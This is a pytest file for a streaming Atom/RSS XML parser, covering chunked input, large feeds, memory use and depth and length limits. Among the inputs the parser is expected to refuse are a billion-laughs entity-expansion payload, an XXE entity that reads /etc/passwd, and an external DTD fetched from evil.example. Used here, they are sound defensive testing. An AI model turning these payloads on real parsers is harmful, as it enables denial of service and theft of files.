"""XML of strangers: entities, depth, length, and feeds of any size with flat memory."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import chain, repeat

import pytest

from streams import xml
from streams.outbound import Outbound
from streams.testing.web_server import Reply, WebServer

ATOM = "{http://www.w3.org/2005/Atom}"
START = b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>News</title>'
ENTRY = b"<entry><id>%d</id><title>One of many</title><content type='html'>" + b"words " * 800 + b"</content></entry>\n"
MEGABYTE = 2**20


def ids(chunks: Iterable[bytes], tag: str = f"{ATOM}entry", **limit: int) -> list[str]:
    return [entry.findtext("{*}id") for entry in xml.Entries(chunks, tag, **limit)]


def in_pieces(data: bytes, size: int) -> Iterator[bytes]:
    return (data[start : start + size] for start in range(0, len(data), size))


def test_a_whole_document() -> None:
    assert xml.parse(b"<a><b>x</b></a>").findtext("b") == "x"


@pytest.mark.parametrize("size", [1, 7, 100, 100_000])
def test_entries_however_they_are_cut(size: int) -> None:
    data = START + b"".join(ENTRY % number for number in range(5)) + b"<link href='x'/></feed>"
    entries = xml.Entries(in_pieces(data, size), f"{ATOM}entry")
    assert entries.root.findtext(f"{ATOM}title") == "News"
    assert [entry.findtext(f"{ATOM}id") for entry in entries] == ["0", "1", "2", "3", "4"]
    assert entries.root.findtext(f"{ATOM}title") == "News"


def test_rss_has_its_entries_one_level_deeper() -> None:
    data = b"<rss><channel><title>N</title><item><id>1</id></item>between<x/><item><id>2</id></item></channel></rss>"
    assert ids([data], "item") == ["1", "2"]


def test_what_an_entry_quotes_is_no_entry() -> None:
    assert ids([b"<feed><entry><entry><id>2</id></entry><id>1</id></entry></feed>"], "entry") == ["1"]


def test_a_feed_without_entries() -> None:
    entries = xml.Entries([START, b"</feed>"], f"{ATOM}entry")
    assert (list(entries), entries.root.tag) == ([], f"{ATOM}feed")


def test_a_title_of_a_megabyte_is_read() -> None:
    data = START + b"<entry><id>1</id><title>" + b"x" * MEGABYTE + b"</title></entry></feed>"
    [title] = [entry.findtext(f"{ATOM}title") for entry in xml.Entries(in_pieces(data, 65536), f"{ATOM}entry")]
    assert len(title) == MEGABYTE


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


@pytest.mark.parametrize(
    ("chunks", "said"),
    [
        ([b'<!DOCTYPE f [<!ENTITY l0 "ha">' + LAUGHS + b"]><f>&l9;</f>"], "entity amplification"),
        ([b'<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>'], "declares entities"),
        ([b'<!DOCTYPE f [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><f/>'], "declares entities"),
        (['<!DOCTYPE f [<!ENTITY x "y">]><f>&x;</f>'.encode("utf-16")], "declares entities"),
        ([b"<f>&x;</f>"], "no well-formed XML"),
        ([b"<f>"], "no well-formed XML"),
        ([b"<f></g>"], "no well-formed XML"),
        ([b"", b"no XML"], "no well-formed XML"),
        ([], "no well-formed XML"),
        ([b"<f>\x00</f>"], "no well-formed XML"),
        ([b"<f>" * 300 + b"</f>" * 300], "Excessive depth"),
        (chain([b"<f>"], repeat(b"x" * MEGABYTE, 12)), "no well-formed XML"),
    ],
)
def test_what_is_refused(chunks: Iterable[bytes], said: str) -> None:
    with pytest.raises(xml.InvalidXml, match=said):
        xml.Entries(chunks)


@pytest.mark.parametrize("noise", [b"x" * 1000, b"<x a='y'>z</x>" * 100, b"<!-- x -->" * 100])
def test_an_entry_that_never_ends_is_refused(noise: bytes) -> None:
    with pytest.raises(xml.InvalidXml, match="longer than 1 MB"):
        ids(chain([START, ENTRY % 1], repeat(noise)), most=MEGABYTE)


def test_other_files_are_not_read(server: WebServer) -> None:
    dtd = f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{server.url}rss.dtd"><rss/>'
    assert xml.parse(dtd.encode()).tag == "rss"
    assert server.asked == []


def test_a_feed_of_50_megabytes_from_a_server_takes_no_memory(server: WebServer) -> None:
    number = 50 * MEGABYTE // len(ENTRY)
    server.routes["/feed"] = Reply(chain([START], (ENTRY % n for n in range(number)), [b"</feed>"]))
    with Outbound(server.url, max_bytes=60 * MEGABYTE, seconds=20) as web, web.stream("feed") as reading:
        before, count = resident(), sum(1 for _ in xml.Entries(reading, f"{ATOM}entry"))
    assert count == number
    assert resident() - before < 25 * MEGABYTE


def test_an_endless_feed_ends_at_the_limit(server: WebServer) -> None:
    server.routes["/feed"] = Reply(chain([START], (ENTRY % 1 for _ in repeat(None))))
    with Outbound(server.url, max_bytes=2 * MEGABYTE) as web, web.stream("feed") as reading:
        entries = xml.Entries(reading, f"{ATOM}entry")
        read = 0
        with pytest.raises(Exception, match="more than 2 MB"):
            for _ in entries:
                read += 1
    assert read > 300


def resident() -> int:
    """Bytes of this process in memory: libxml2's are no Python objects."""
    with open("/proc/self/statm") as file:
        return int(file.read().split()[1]) * 4096
